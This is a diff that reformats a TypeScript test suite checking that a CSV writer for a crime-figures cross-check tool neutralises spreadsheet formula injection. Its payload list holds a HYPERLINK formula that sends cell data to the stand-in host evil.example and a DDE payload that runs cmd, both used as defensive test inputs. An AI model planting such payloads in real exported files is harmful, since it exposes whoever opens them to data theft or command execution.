@@ -15,8 +15,21 @@ const root = path.resolve(__dirname, '../..');
 function figure(start: number, text: string, value: number, extra: Partial<FigureAnnotation> = {}): FigureAnnotation {
   const end = start + text.length;
   return {
-    kind: 'figure', id: `figure:${start}-${end}`, start, end, text, line: 0, source: 'rule', value, unit: 'count',
-    qualifier: 'exact', bound: 'exact', precision: 1, counts: 'arrests', sentence: { start, end }, ...extra,
+    kind: 'figure',
+    id: `figure:${start}-${end}`,
+    start,
+    end,
+    text,
+    line: 0,
+    source: 'rule',
+    value,
+    unit: 'count',
+    qualifier: 'exact',
+    bound: 'exact',
+    precision: 1,
+    counts: 'arrests',
+    sentence: { start, end },
+    ...extra,
   };
 }
 
@@ -33,19 +46,29 @@ function readCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
       else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === ',') (row.push(cell), (cell = ''));
     else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+      (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
     } else cell += c;
   }
   return rows;
 }
 
-const payloads = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =1+1', '\u200b=1+1', '＝1+1'];
+const payloads = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\u200b=1+1',
+  '＝1+1',
+];
 
 describe('CSV writer: spreadsheet formulas (OWASP CSV injection)', () => {
   it('gives every text cell a spreadsheet could run as a formula a leading apostrophe', () => {
@@ -86,10 +109,20 @@ describe('CSV writer: spreadsheet formulas (OWASP CSV injection)', () => {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'crime-csv-'));
     try {
       // Two releases that disagree on one measure of one dated operation, one named like a formula.
-      fs.writeFileSync(path.join(dir, '=HYPERLINK(1).crime.txt'), 'Kent Police made 120 arrests during the week of action from 4 to 10 March 2024, Operation Tarn.\n');
-      fs.writeFileSync(path.join(dir, 'b.crime.txt'), 'Kent Police said officers made 150 arrests during Operation Tarn, the week of action from 4 to 10 March 2024.\n');
+      fs.writeFileSync(
+        path.join(dir, '=HYPERLINK(1).crime.txt'),
+        'Kent Police made 120 arrests during the week of action from 4 to 10 March 2024, Operation Tarn.\n',
+      );
+      fs.writeFileSync(
+        path.join(dir, 'b.crime.txt'),
+        'Kent Police said officers made 150 arrests during Operation Tarn, the week of action from 4 to 10 March 2024.\n',
+      );
       // Run from inside the folder so the paths in the report are the bare file names.
-      const r = spawnSync(process.execPath, ['--require', require.resolve('tsx/cjs'), path.join(root, 'src/cli/main.ts'), 'crosscheck', '--format', 'csv', '.'], { cwd: dir, encoding: 'utf8' });
+      const r = spawnSync(
+        process.execPath,
+        ['--require', require.resolve('tsx/cjs'), path.join(root, 'src/cli/main.ts'), 'crosscheck', '--format', 'csv', '.'],
+        { cwd: dir, encoding: 'utf8' },
+      );
       const rows = readCsv(r.stdout);
       assert.deepEqual(rows[0], ['status', 'kind', 'id', 'path', 'line', 'text', 'note', 'message']);
       const paths = rows.slice(1).map((row) => row[3]);
